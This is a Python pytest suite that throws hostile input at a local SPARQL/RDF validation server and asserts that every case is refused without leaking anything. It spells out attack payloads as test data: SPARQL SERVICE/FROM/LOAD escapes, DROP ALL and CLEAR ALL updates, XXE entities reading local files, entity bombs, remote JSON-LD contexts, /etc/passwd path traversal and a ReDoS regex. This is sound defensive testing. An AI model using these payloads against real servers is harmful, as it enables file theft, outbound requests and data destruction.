"""Hostile input against the real server (``bpkg serve`` on 127.0.0.1): every case asserted.

Already proved elsewhere and not repeated here (see docs/reliability.md):
tests/test_sparql_safety.py (21 SERVICE/FROM/LOAD attacks x 3 transports, the network-less
query child, deep nesting of 6,000 braces, runaway queries), tests/test_sparql_protocol.py
(protocol errors, update refusal, body and length caps, junk queries) and
tests/test_validation.py (XXE, entity bomb, remote JSON-LD contexts, owl:imports and
submitted shapes in process, through the Flask test client).

Here: the attacks those tests do not try, and the same classes of attack through waitress
on a real socket, each one aimed at a local HTTP observer (which must hear nothing) or at a
local secret file (whose content must appear in no answer).
"""

from __future__ import annotations

import json
import uuid

import pytest
import requests

from .conftest import assert_clear_refusal

TIMEOUT = 30  # a hang guard, not a timing assertion
TOKEN = "TOPSECRET-" + uuid.uuid4().hex[:12]


@pytest.fixture(scope="module")
def secret(tmp_path_factory):
    """A local file an attacker would like to read: Turtle, so a successful FROM would show it."""
    path = tmp_path_factory.mktemp("secret") / "secret.ttl"
    path.write_text(f'<urn:x:secret> <urn:x:value> "{TOKEN}" .\n')
    return path


def no_leak(response) -> None:
    assert TOKEN not in response.text


def sparql_get(base, query, **headers):
    return requests.get(base + "/sparql", params={"query": query}, headers=headers, timeout=TIMEOUT)


def sparql_direct(base, query, content_type="application/sparql-query", **headers):
    data = query if isinstance(query, bytes) else query.encode()
    return requests.post(base + "/sparql", data=data, headers={"Content-Type": content_type, **headers},
                         timeout=TIMEOUT)


def validate(base, data, content_type, headers=None):
    data = data if isinstance(data, bytes) else data.encode()
    headers = {**({"Content-Type": content_type} if content_type is not None else {}), **(headers or {})}
    return requests.post(base + "/validate", data=data, headers=headers, timeout=TIMEOUT)


def triple_count(base) -> int:
    r = sparql_get(base, "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }")
    return int(r.json()["results"]["bindings"][0]["n"]["value"])


# -- SPARQL: network and file escapes test_sparql_safety.py does not try -------------------

ESCAPES = {
    "service-in-graph": "SELECT * WHERE { GRAPH ?g { SERVICE <{o}> { ?s ?p ?o } } }",
    "service-in-bind-exists": "SELECT * WHERE { BIND(EXISTS { SERVICE <{o}> { ?s ?p ?o } } AS ?x) }",
    "service-deep-in-subquery-optional-union": "SELECT * WHERE { { SELECT * WHERE { ?s a ?t OPTIONAL { "
                                               "{ SERVICE <{o}> { ?s ?p ?o } } UNION { ?s ?p ?o } } } LIMIT 1 } }",
    "service-in-filter-not-exists": "SELECT * WHERE { ?s a ?t FILTER NOT EXISTS { SERVICE <{o}> { ?s ?p ?o } } }",
    "service-in-describe": "DESCRIBE ?s WHERE { SERVICE <{o}> { ?s ?p ?o } }",
    "service-prefixed-name": "PREFIX evil: <{o}> SELECT * WHERE { SERVICE evil:sparql { ?s ?p ?o } }",
    "service-relative-iri-after-base": "BASE <{o}> SELECT * WHERE { SERVICE <sparql> { ?s ?p ?o } }",
    "service-long-unicode-escape": "SELECT * WHERE { \\U00000053ERVICE <{o}> { ?s ?p ?o } }",
    "service-escaped-iri": "SELECT * WHERE { SERVICE <{o_escaped}> { ?s ?p ?o } }",
    "service-silent-bound-variable": "SELECT * WHERE { BIND(<{o}> AS ?e) SERVICE SILENT ?e { ?s ?p ?o } }",
    "service-exfiltrates-a-bound-value": "SELECT * WHERE { ?s ?p ?v . SERVICE <{o}> { ?x ?y ?v } } LIMIT 1",
    "service-secret-file": "SELECT * WHERE { SERVICE <{f}> { ?s ?p ?o } }",
    "from-relative-iri-after-base": "BASE <{o}> SELECT * FROM <data.ttl> WHERE { ?s ?p ?o }",
    "from-secret-file": "SELECT * FROM <{f}> WHERE { ?s ?p ?o }",
    "from-named-secret-file": "SELECT * FROM NAMED <{f}> WHERE { GRAPH ?g { ?s ?p ?o } }",
    "from-bundled-and-remote": "SELECT * FROM <https://w3id.org/bpkg/graph/kg/states> FROM <{o}> WHERE { ?s ?p ?o }",
    "construct-from": "CONSTRUCT { ?s ?p ?o } FROM <{o}> WHERE { ?s ?p ?o }",
    "ask-from-named": "ASK FROM NAMED <{o}> { GRAPH ?g { ?s ?p ?o } }",
}


def _attack(template: str, observer, secret, name: str) -> str:
    url = observer.url + name
    escaped = url.replace(":", "\\u003A").replace("/", "\\u002F")
    return template.replace("{o_escaped}", escaped).replace("{o}", url).replace("{f}", secret.as_uri())


@pytest.mark.parametrize("how", ["get", "direct"])
@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_sparql_escape_is_refused(live_server, observer, secret, name, how):
    query = _attack(ESCAPES[name], observer, secret, name)
    r = sparql_get(live_server, query) if how == "get" else sparql_direct(live_server, query)
    assert_clear_refusal(r, statuses=[400])
    assert "SERVICE" in r.text or "FROM" in r.text
    no_leak(r)
    assert observer.heard() == []


@pytest.mark.parametrize("parameter", ["default-graph-uri", "named-graph-uri"])
@pytest.mark.parametrize("where", ["observer", "file"])
def test_protocol_dataset_parameters_never_fetch(live_server, observer, secret, parameter, where):
    """SPARQL 1.1 Protocol 2.1.4 lets a client name the dataset; graphs we do not hold stay empty."""
    target = observer.url + "graph.ttl" if where == "observer" else secret.as_uri()
    query = "SELECT * WHERE { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }"
    r = requests.get(live_server + "/sparql", params={"query": query, parameter: target}, timeout=TIMEOUT)
    assert r.status_code in (200, 400), r.text
    if r.status_code == 200:
        assert r.json()["results"]["bindings"] == []
    no_leak(r)
    assert observer.heard() == []


UPDATES = [
    "INSERT DATA { <urn:x:a> <urn:x:b> <urn:x:c> }",
    "DELETE DATA { <https://w3id.org/bpkg/id/state/AF> a <https://w3id.org/bpkg/ontology#State> }",
    "DELETE WHERE { ?s ?p ?o }",
    "WITH <https://w3id.org/bpkg/graph/kg/states> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "DROP ALL", "DROP DEFAULT", "CLEAR ALL", "CLEAR SILENT NAMED", "CREATE GRAPH <urn:x:g>",
    "COPY DEFAULT TO <urn:x:g>", "MOVE DEFAULT TO <urn:x:g>", "ADD DEFAULT TO <urn:x:g>",
    "LOAD <{o}>", "LOAD SILENT <{f}> INTO GRAPH <urn:x:g>",
    "INSERT { ?s ?p ?o } WHERE { SERVICE <{o}> { ?s ?p ?o } }",
    "CLEAR ALL ; INSERT DATA { <urn:x:a> <urn:x:b> <urn:x:c> }",
]


@pytest.fixture(scope="module")
def graph_size(live_server):
    before = triple_count(live_server)
    yield before
    assert triple_count(live_server) == before, "an update reached the bundled graph"


@pytest.mark.parametrize("how", ["direct-update", "form-update", "form-query", "get-query"])
@pytest.mark.parametrize("update", UPDATES)
def test_updates_on_the_query_endpoint_are_refused(live_server, observer, secret, graph_size, update, how):
    text = _attack(update, observer, secret, "load")
    url = live_server + "/sparql"
    if how == "direct-update":
        r = requests.post(url, data=text.encode(), headers={"Content-Type": "application/sparql-update"},
                          timeout=TIMEOUT)
    elif how == "form-update":
        r = requests.post(url, data={"update": text}, timeout=TIMEOUT)
    elif how == "form-query":
        r = requests.post(url, data={"query": text}, timeout=TIMEOUT)
    else:
        r = requests.get(url, params={"query": text}, timeout=TIMEOUT)
    assert_clear_refusal(r, statuses=[400])
    assert "read-only" in r.text or "update" in r.text.lower() or "SERVICE" in r.text
    no_leak(r)
    assert observer.heard() == []
    assert triple_count(live_server) == graph_size


# -- SPARQL: malformed and extreme input -------------------------------------------------

def _union(branches: int, sep: str = "UNION") -> str:
    return "SELECT * WHERE {" + sep.join(["{?s ?p ?o}"] * branches) + "} LIMIT 1"


EXTREME_QUERIES = {
    # name: (method, query text or bytes, expected statuses, a word the message must contain)
    "get-invalid-utf8": ("get-raw", "ASK%20%7B%7D%FF%FE", [400], "UTF-8"),
    "get-overlong-utf8": ("get-raw", "ASK%20%7B%7D%C0%AF", [400], "UTF-8"),
    "form-invalid-utf8": ("form-raw", b"query=ASK+%7B%7D%FF", [400], "UTF-8"),
    "direct-surrogate-utf8": ("direct", b"ASK { } # \xed\xa0\x80", [400], "UTF-8"),
    "direct-truncated-utf8": ("direct", b"ASK { } # \xe2\x82", [400], "UTF-8"),
    "get-1-MB": ("get", "ASK {}" + " " * (1 << 20), [431, 414, 413], "exceeds"),
    "form-1-MB": ("form", "ASK {}" + " " * (1 << 20), [413], "larger than"),
    "direct-1-MB": ("direct", "ASK {}" + " " * (1 << 20), [413], "larger than"),
    "10000-union-branches": ("get", _union(10_000), [413], "limit"),
    "10000-union-branches-direct": ("direct", _union(10_000, " UNION "), [413], "limit"),
    "nesting-one-past-the-limit": ("get", "SELECT * WHERE " + "{" * 41 + "}" * 41, [400], "nests"),
    "nesting-at-the-limit": ("get", "SELECT * WHERE " + "{" * 40 + "}" * 40, [200, 400], "nested"),
    "nested-parentheses": ("get", "ASK { FILTER(" + "(" * 60 + "1" + ")" * 60 + ") }", [400], "nest"),
    "nested-blank-node-lists": ("get", "ASK { ?s ?p " + "[ ?p " * 50 + "?o" + " ]" * 50 + " }", [400], "nest"),
    "nested-subqueries": ("get", "SELECT * WHERE { " + "{ SELECT * WHERE { " * 25 + "?s ?p ?o" + " } }" * 25
                          + " } LIMIT 1", [200, 400], ""),
    "limit-beyond-64-bits": ("get", "SELECT * { ?s ?p ?o } LIMIT 99999999999999999999999999", [400], "limit"),
    "offset-beyond-64-bits": ("get", "SELECT * { ?s ?p ?o } OFFSET 99999999999999999999999999", [400], "offset"),
    "unbalanced-braces": ("get", "SELECT * WHERE " + "{" * 30, [400], "syntax"),
    "prefix-bomb": ("get", "".join(f"PREFIX p{i}: <urn:x:{i}#> " for i in range(600)) + "ASK {}", [200], ""),
}


@pytest.mark.parametrize("name", sorted(EXTREME_QUERIES))
def test_extreme_query_gets_a_clear_answer(live_server, name):
    method, query, statuses, word = EXTREME_QUERIES[name]
    url = live_server + "/sparql"
    if method == "get-raw":
        r = requests.get(url + "?query=" + query, timeout=TIMEOUT)
    elif method == "form-raw":
        r = requests.post(url, data=query, headers={"Content-Type": "application/x-www-form-urlencoded"},
                          timeout=TIMEOUT)
    elif method == "get":
        r = sparql_get(live_server, query)
    elif method == "form":
        r = requests.post(url, data={"query": query}, timeout=TIMEOUT)
    else:
        r = sparql_direct(live_server, query)
    if 200 in statuses and r.status_code == 200:
        return
    assert_clear_refusal(r, statuses=statuses)
    assert word.lower() in r.text.lower(), r.text


ROW_CAP = 10_000  # the default SPARQL_MAX_ROWS; every triple twice (VALUES) is over 13,000 rows


@pytest.mark.parametrize("query, rows", [
    ("SELECT * { ?s ?p ?o VALUES ?copy { 1 2 } } LIMIT 9223372036854775807", ROW_CAP),
    ("SELECT * { ?s ?p ?o VALUES ?copy { 1 2 } } LIMIT 9223372036854775807 OFFSET 1", ROW_CAP),
    (_union(1_000), 1),
])
def test_huge_but_legal_result_requests_are_capped(live_server, query, rows):
    r = sparql_get(live_server, query)
    assert r.status_code == 200, r.text
    assert len(r.json()["results"]["bindings"]) == rows
    assert r.headers.get("X-BPKG-Truncated") == ("rows" if rows == ROW_CAP else None)


def test_huge_offset_is_an_empty_answer(live_server):
    r = sparql_get(live_server, "SELECT * { ?s ?p ?o } OFFSET 9223372036854775806")
    assert r.status_code == 200 and r.json()["results"]["bindings"] == []


def test_redos_regex_is_answered(live_server):
    """Python's ``re`` would hang on this; the engine's regex is linear (perf_security.md 2c)."""
    r = sparql_get(live_server, 'SELECT ?l WHERE { ?s ?p ?l FILTER(REGEX(STR(?l), "^(a+)+$")) } LIMIT 5')
    assert r.status_code in (200, 503), r.text
    if r.status_code == 503:
        assert "deadline" in r.text and r.headers.get("Retry-After")


CONTENT_TYPES = [
    # (content type, body, status, a word of the message)
    (None, b"ASK {}", 400, "Content-Type"),
    ("application/sparql-query", b"query=ASK+%7B%7D", 400, "syntax"),
    ("application/x-www-form-urlencoded", b"ASK {}", 400, "neither"),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=\"query\"\r\n\r\nASK {}\r\n--x--",
     415, "unsupported"),
    ("application/sparql-query; charset=latin-1", "ASK { FILTER(\"caf\xe9\") }".encode("latin-1"), 415, "UTF-8"),
    ("application/json", b'{"query": "ASK {}"}', 415, "unsupported"),
    ("text/turtle", b"<a> <b> <c> .", 415, "unsupported"),
    ("application/sparql-update", b"ASK {}", 400, "read-only"),
]


@pytest.mark.parametrize("content_type,body,status,word", CONTENT_TYPES,
                         ids=[str(c[0]) for c in CONTENT_TYPES])
def test_missing_or_lying_content_type_on_sparql(live_server, content_type, body, status, word):
    headers = {"Content-Type": content_type} if content_type else {"Content-Type": ""}
    r = requests.post(live_server + "/sparql", data=body, headers=headers, timeout=TIMEOUT)
    assert_clear_refusal(r, statuses=[status])
    assert word.lower() in r.text.lower(), r.text


@pytest.mark.parametrize("accept", ["image/png", "application/x-nonsense", "application/x-other;q=1, */*;q=0",
                                    "application/sparql-results+json;q=0"])
def test_unknown_accept_on_every_face(live_server, accept):
    """406 with the list of what is available, never a 5xx; the same on every kind of page."""
    faces = [
        lambda: sparql_get(live_server, "SELECT * { ?s ?p ?o } LIMIT 1", Accept=accept),
        lambda: requests.get(live_server + "/queries/states", headers={"Accept": accept}, timeout=TIMEOUT),
        lambda: requests.get(live_server + "/id/state/AF", headers={"Accept": accept}, timeout=TIMEOUT),
    ]
    for face in faces:
        r = face()
        assert_clear_refusal(r, statuses=[406])
        assert "/" in r.text  # names the media types that are available


@pytest.mark.parametrize("accept", ["", ";;;q=abc,,", "*/*;q=2", "x" * 8000, "text/*, application/*;q=0.1"])
def test_malformed_accept_is_read_leniently(live_server, accept):
    r = sparql_get(live_server, "ASK {}", Accept=accept)
    assert r.status_code in (200, 406), r.text
    if r.status_code == 406:
        assert_clear_refusal(r, statuses=[406])


@pytest.mark.parametrize("path", [
    "/graph/../../etc/passwd", "/graph/..%2F..%2F..%2Fetc%2Fpasswd", "/dumps/..%2F..%2Fpyproject.toml",
    "/assets/yasgui/..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/explore/assets/..%2F..%2Fbpkg%2Fsparql.py",
    "/dumps/%2Fetc%2Fpasswd", "/id/state/..%2F..%2F..%2Fetc%2Fpasswd", "/queries/..%2Fbpkg%2Fsparql.py",
    "/queries/%2Fetc%2Fpasswd.rq",
])
def test_path_traversal_reads_nothing(live_server, path):
    r = requests.get(live_server + path, timeout=TIMEOUT)
    assert_clear_refusal(r, statuses=[400, 404])
    assert "import " not in r.text and "[project]" not in r.text


# -- /validate: escapes through parsers, over a real socket --------------------------------

RDF = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/"'


def _bomb(levels: int = 9) -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, levels + 1))
    return (f'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY l0 "lol">{entities}]>\n<rdf:RDF {RDF}>'
            f'<rdf:Description rdf:about="http://example.org/a"><ex:p>&l{levels};</ex:p></rdf:Description>'
            f'</rdf:RDF>').encode()


def _rdfxml_with(doctype: str, value: str = "&e;") -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rdf:RDF {RDF}><rdf:Description rdf:about="http://example.org/a">'
            f'<ex:p>{value}</ex:p></rdf:Description></rdf:RDF>').encode()


XML_ATTACKS = {
    "xxe-secret-file": lambda o, f: _rdfxml_with(f'<!DOCTYPE rdf:RDF [<!ENTITY e SYSTEM "{f}">]>'),
    "xxe-http": lambda o, f: _rdfxml_with(f'<!DOCTYPE rdf:RDF [<!ENTITY e SYSTEM "{o}xxe">]>'),
    "parameter-entity": lambda o, f: _rdfxml_with(f'<!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "{o}p.dtd"> %p;]>', "x"),
    "external-dtd": lambda o, f: _rdfxml_with(f'<!DOCTYPE rdf:RDF SYSTEM "{o}ext.dtd">', "x"),
    "billion-laughs": lambda o, f: _bomb(9),
    "quadratic-blowup": lambda o, f: _rdfxml_with('<!DOCTYPE rdf:RDF [<!ENTITY e "' + "x" * 2000 + '">]>',
                                                  "&e;" * 5000),
    "lowercase-spaced-doctype": lambda o, f: _rdfxml_with(f'<! doctype rdf:RDF [<!entity e SYSTEM "{f}">]>'),
}


@pytest.mark.parametrize("how", ["raw", "upload", "paste"])
@pytest.mark.parametrize("name", sorted(XML_ATTACKS))
def test_rdfxml_dtd_attacks_are_refused(live_server, observer, secret, name, how):
    doc = XML_ATTACKS[name](observer.url, secret.as_uri())
    if how == "raw":
        r = validate(live_server, doc, "application/rdf+xml")
    elif how == "upload":
        r = requests.post(live_server + "/validate", files={"file": ("attack.rdf", doc, "application/rdf+xml")},
                          timeout=TIMEOUT)
    else:
        r = requests.post(live_server + "/validate", data={"data": doc.decode(), "format": "rdf-xml"},
                          timeout=TIMEOUT)
    assert_clear_refusal(r, statuses=[400])
    assert r.json()["error"] == "refused" and "DOCTYPE" in r.json()["message"]
    no_leak(r)
    assert observer.heard() == []


JSONLD_ATTACKS = {
    "remote-context": lambda o, f: {"@context": o + "ctx.jsonld", "@id": "http://example.org/a", "name": "x"},
    "remote-context-in-list": lambda o, f: {"@context": [{"@vocab": "http://example.org/"}, o + "c2"],
                                            "@id": "http://example.org/a"},
    "file-context": lambda o, f: {"@context": f, "@id": "http://example.org/a"},
    "import-in-context": lambda o, f: {"@context": {"@version": 1.1, "@import": o + "imp"}, "@id": "urn:x:a"},
    "scoped-context-in-term": lambda o, f: {"@context": {"t": {"@id": "http://example.org/t", "@context": o + "s"}},
                                            "@id": "urn:x:a", "t": {"@id": "urn:x:b"}},
    "context-in-nested-node": lambda o, f: {"@context": {"@vocab": "http://example.org/"}, "@id": "urn:x:a",
                                            "p": {"@context": o + "nested", "q": 1}},
    "context-in-graph": lambda o, f: {"@graph": [{"@context": o + "g", "@id": "urn:x:a"}]},
    "top-level-array": lambda o, f: [{"@context": o + "arr", "@id": "urn:x:a"}],
}


@pytest.mark.parametrize("name", sorted(JSONLD_ATTACKS))
def test_jsonld_remote_contexts_are_refused(live_server, observer, secret, name):
    doc = JSONLD_ATTACKS[name](observer.url, secret.as_uri())
    r = validate(live_server, json.dumps(doc), "application/ld+json")
    assert_clear_refusal(r, statuses=[400])
    assert r.json()["error"] == "refused"
    no_leak(r)
    assert observer.heard() == []


def test_jsonld_inline_base_pointing_elsewhere_fetches_nothing(live_server, observer):
    doc = {"@context": {"@base": observer.url, "@vocab": "http://example.org/"}, "@id": "relative", "p": "x"}
    r = validate(live_server, json.dumps(doc), "application/ld+json")
    assert r.status_code == 200, r.text
    assert observer.heard() == []


OWL_IMPORTS = "http://www.w3.org/2002/07/owl#imports"


@pytest.mark.parametrize("syntax", ["turtle", "n-triples", "json-ld", "rdf-xml", "trig"])
def test_owl_imports_is_reported_not_followed(live_server, observer, secret, syntax):
    s, target, local = "https://w3id.org/bpkg/id/project/x", observer.url + "more.ttl", secret.as_uri()
    bodies = {
        "turtle": (f"<{s}> <{OWL_IMPORTS}> <{target}>, <{local}> .", "text/turtle"),
        "n-triples": (f"<{s}> <{OWL_IMPORTS}> <{target}> .\n<{s}> <{OWL_IMPORTS}> <{local}> .\n",
                      "application/n-triples"),
        "json-ld": (json.dumps({"@id": s, OWL_IMPORTS: [{"@id": target}, {"@id": local}]}), "application/ld+json"),
        "rdf-xml": (f'<rdf:RDF {RDF} xmlns:owl="http://www.w3.org/2002/07/owl#"><rdf:Description rdf:about="{s}">'
                    f'<owl:imports rdf:resource="{target}"/><owl:imports rdf:resource="{local}"/>'
                    f'</rdf:Description></rdf:RDF>', "application/rdf+xml"),
        "trig": (f"<{target}> {{ <{s}> <{OWL_IMPORTS}> <{target}>, <{local}> . }}", "application/trig"),
    }
    body, content_type = bodies[syntax]
    r = validate(live_server, body, content_type)
    assert r.status_code == 200, r.text
    notes = [res for res in r.json()["results"] if "not followed" in res["message"]]
    assert len(notes) == 2, r.json()
    no_leak(r)
    assert observer.heard() == []


def test_submitted_sparql_shapes_and_rules_never_run(live_server, observer):
    """A shapes graph in a submission could run SERVICE through pySHACL (perf_security.md 2e)."""
    body = f"""PREFIX sh: <http://www.w3.org/ns/shacl#>
<urn:x:shape> a sh:NodeShape ; sh:targetNode <urn:x:a> ;
  sh:sparql [ sh:select "SELECT $this WHERE {{ S\\\\u0045RVICE <{observer.url}sparql> {{ ?s ?p ?o }} }}" ] .
<urn:x:rule-shape> a sh:NodeShape ; sh:targetNode <urn:x:a> ;
  sh:rule [ a sh:SPARQLRule ; sh:construct "CONSTRUCT {{ $this <urn:x:p> ?o }} WHERE {{ SERVICE <{observer.url}r> {{ ?s ?p ?o }} }}" ] .
<urn:x:a> <urn:x:p> "TOPSECRET-42" .
"""
    r = validate(live_server, body, "text/turtle")
    assert r.status_code == 200, r.text
    assert any("ignored" in res["message"] for res in r.json()["results"])
    assert observer.heard() == []


def test_turtle_base_and_prefixes_pointing_elsewhere_fetch_nothing(live_server, observer, secret):
    body = f"@base <{observer.url}> .\n@prefix f: <{secret.as_uri()}#> .\n<a> <b> f:c .\n"
    r = validate(live_server, body, "text/turtle")
    assert r.status_code == 200, r.text
    no_leak(r)
    assert observer.heard() == []


# -- /validate: malformed and extreme input ------------------------------------------------

def _deep_json(depth: int) -> bytes:
    return b'{"@id": "urn:x:a", "urn:x:p": ' + b"[" * depth + b"1" + b"]" * depth + b"}"


EXTREME_SUBMISSIONS = {
    # name: (body, content type, expected statuses, error kind or None)
    "invalid-utf8-turtle": (b'<urn:x:a> <urn:x:p> "\xff\xfe" .', "text/turtle", [400], "encoding"),
    "invalid-utf8-jsonld": (b'{"@id": "urn:x:a", "urn:x:p": "\xc3\x28"}', "application/ld+json", [400], "encoding"),
    "invalid-utf8-rdfxml": (_rdfxml_with("", "caf\xe9").replace("caf\xe9".encode(), b"caf\xe9"),
                            "application/rdf+xml", [400], "encoding"),
    "surrogate-utf8-ntriples": (b'<urn:x:a> <urn:x:p> "\xed\xa0\x80" .\n', "application/n-triples", [400], "encoding"),
    "utf16-with-bom": ('<urn:x:a> <urn:x:p> "x" .'.encode("utf-16"), "text/turtle", [400], "encoding"),
    "latin1-declared": ('<urn:x:a> <urn:x:p> "caf\xe9" .'.encode("latin-1"), "text/turtle; charset=latin-1",
                        [400], "encoding"),
    "deep-json-arrays": (_deep_json(100_000), "application/ld+json", [400], None),
    "deep-json-objects": (b'{"urn:x:p": ' * 5000 + b"1" + b"}" * 5000, "application/ld+json", [400], None),
    "deep-turtle-blank-nodes": (b"<urn:x:a> <urn:x:p> " + b"[ <urn:x:p> " * 5000 + b"<urn:x:o>" + b" ]" * 5000 + b" .",
                                "text/turtle", [400, 413], None),  # 5,001 triples: over the cap as it parses
    "deep-turtle-collections": (b"<urn:x:a> <urn:x:p> " + b"( " * 5000 + b"<urn:x:o>" + b" )" * 5000 + b" .",
                                "text/turtle", [400, 413], None),  # over the triple cap as it parses
    "two-megabytes": (b"#" * (2 << 20), "text/turtle", [413], "too-large"),
    "lying-turtle-is-jsonld": (b'{"@id": "urn:x:a"}', "text/turtle", [400], "syntax"),
    "lying-jsonld-is-turtle": (b"<urn:x:a> <urn:x:p> <urn:x:o> .", "application/ld+json", [400], "syntax"),
    "lying-rdfxml-is-turtle": (b"<urn:x:a> <urn:x:p> <urn:x:o> .", "application/rdf+xml", [400], "syntax"),
    "lying-ntriples-is-turtle": (b"@prefix x: <urn:x:> . x:a x:p x:o .", "application/n-triples", [400], "syntax"),
    "missing-content-type": (b"<urn:x:a> <urn:x:p> <urn:x:o> .", None, [415], "unknown-format"),
    "octet-stream": (b"<urn:x:a> <urn:x:p> <urn:x:o> .", "application/octet-stream", [415], "unknown-format"),
    "multipart-without-boundary": (b"<urn:x:a> <urn:x:p> <urn:x:o> .", "multipart/form-data", [400], "empty"),
    "form-without-format": (b"data=%3Curn%3Ax%3Aa%3E+%3Curn%3Ax%3Ap%3E+%3Curn%3Ax%3Ao%3E+.",
                            "application/x-www-form-urlencoded", [415], "unknown-format"),
}


@pytest.mark.parametrize("name", sorted(EXTREME_SUBMISSIONS))
def test_extreme_submission_gets_a_clear_4xx(live_server, name):
    body, content_type, statuses, kind = EXTREME_SUBMISSIONS[name]
    r = validate(live_server, body, content_type)
    assert_clear_refusal(r, statuses=statuses)
    error = r.json()
    assert error["status"] == r.status_code and error["message"]
    if kind:
        assert error["error"] == kind, error


@pytest.mark.parametrize("how", ["raw", "chunked", "upload"])
def test_twenty_megabyte_upload_is_413_before_it_is_read(live_server, how):
    """20 MB: waitress refuses it at its body cap (MAX_CONTENT_LENGTH, 10 MiB) with a plain-text 413."""
    block = b"#" * (1 << 20)
    url = live_server + "/validate"
    if how == "raw":
        r = requests.post(url, data=block * 20, headers={"Content-Type": "text/turtle"}, timeout=TIMEOUT)
    elif how == "chunked":
        r = requests.post(url, data=iter([block] * 20), headers={"Content-Type": "text/turtle"}, timeout=TIMEOUT)
    else:
        r = requests.post(url, files={"file": ("big.ttl", block * 20, "text/turtle")}, timeout=TIMEOUT)
    assert_clear_refusal(r, statuses=[413])
    assert "exceeds" in r.text or "limit" in r.text
    assert requests.get(live_server + "/sparql", params={"query": "ASK {}"}, timeout=TIMEOUT).status_code == 200


@pytest.mark.parametrize("accept,status", [("image/png", 406), ("text/html", 400), ("application/json", 400)])
def test_validate_errors_follow_accept(live_server, accept, status):
    r = validate(live_server, b"not turtle at all", "text/turtle", headers={"Accept": accept})
    assert_clear_refusal(r, statuses=[status])
    if accept == "text/html":
        assert r.headers["Content-Type"].startswith("text/html")
    else:
        assert r.json()["status"] == status


def test_server_still_answers_after_the_suite(live_server):
    assert requests.get(live_server + "/sparql", params={"query": "ASK {}"}, timeout=TIMEOUT).json()["boolean"]
